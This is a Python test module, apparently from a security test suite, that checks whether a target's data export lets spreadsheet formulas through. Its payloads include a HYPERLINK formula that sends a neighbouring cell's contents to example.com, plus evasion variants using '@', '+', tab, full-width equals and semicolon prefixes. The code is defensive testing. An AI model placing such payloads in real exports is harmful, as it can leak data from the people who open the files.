"""Attacks by a note that somebody opens in a spreadsheet."""

from prover import Target

from .stage import Stage


def computes(target: Target, stage: Stage, note: str) -> bool:
    exported = target.export([(note, 9.5)])
    print(exported)
    return bool(stage.formulas(exported))


def attack_formula(target: Target, stage: Stage) -> bool:
    """Write a formula with a link that contains a neighbouring cell."""
    return computes(target, stage, '=HYPERLINK("https://example.com/?"&A2,"open")')


def attack_other_signs(target: Target, stage: Stage) -> bool:
    """Begin with another character that also starts a formula."""
    return computes(target, stage, "@SUM(1+1)") and computes(target, stage, "+1+A2")


def attack_tab_first(target: Target, stage: Stage) -> bool:
    """Put a tab before the formula; some programs drop it."""
    return computes(target, stage, "\t=1+A2")


def attack_full_width(target: Target, stage: Stage) -> bool:
    """Use the full-width equals sign, which some spreadsheets take for the usual one."""
    return computes(target, stage, "\uff1d1+A2")


def attack_other_separator(target: Target, stage: Stage) -> bool:
    """Begin the formula after a semicolon, which separates cells in many countries."""
    return computes(target, stage, "by noon;=1+A2")
